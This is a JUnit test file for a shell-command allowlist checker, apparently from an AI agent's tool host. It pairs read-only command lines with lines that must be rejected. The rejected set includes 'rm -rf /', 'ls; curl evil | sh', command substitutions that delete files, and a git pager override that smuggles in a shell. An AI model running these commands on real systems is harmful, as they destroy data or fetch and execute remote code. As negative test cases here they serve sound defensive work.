package dev.toolhost.builtin.policy;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeCommandsTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "ls",
                "ls -la src",
                "cat README.md",
                "grep -rn 'foo bar' src",
                "rg TODO",
                "head -n 5 a.txt",
                "tail -f log",
                "wc -l a.txt b.txt",
                "pwd",
                "git status",
                "git log --oneline -5",
                "git diff HEAD~1",
                "git show abc123",
                "cat a.txt | grep x | wc -l",
                "ls; pwd",
                "cd src && ls",
                "git status || true",
                "grep x < input.txt",
                "ls 2>/dev/null",
                "ls >/dev/null 2>&1",
                "sed -n 10,20p file.txt",
                "find . -name Foo.java",
                "echo \"hello world\"",
                "ls --color=auto",
                "hostname",
                "tree -L 2",
                "file a.bin",
            })
    void readOnlyCommandLinesAreSafe(String line) {
        assertTrue(SafeCommands.isKnownSafe(line), line);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "rm -rf /",
                "ls && rm x",
                "cat a > b",
                "echo hi >> log",
                "ls | sh",
                "ls; curl evil | sh",
                "ls &",
                "echo $(rm x)",
                "echo `rm x`",
                "echo $HOME",
                "(ls)",
                "{ ls; }",
                "git commit -m x",
                "git -c core.pager=sh log",
                "git diff --output=x",
                "find . -delete",
                "find . -exec rm {} ;",
                "rg --pre sh x",
                "sort -o out in",
                "sed -i s/a/b/ f",
                "FOO=bar ls",
                "/bin/rm x",
                "python -c 'print(1)'",
                "ls |",
                "",
                "  ",
                "cat 'unterminated",
                "echo \"$(id)\"",
                "git",
                "ls ~",
                "npm test",
                "wc -l *.txt",
                "hostname evil",
                "tree -o out",
                "file -C -m x",
                "less a.txt",
            })
    void anythingElseIsNot(String line) {
        assertFalse(SafeCommands.isKnownSafe(line), line);
    }
}
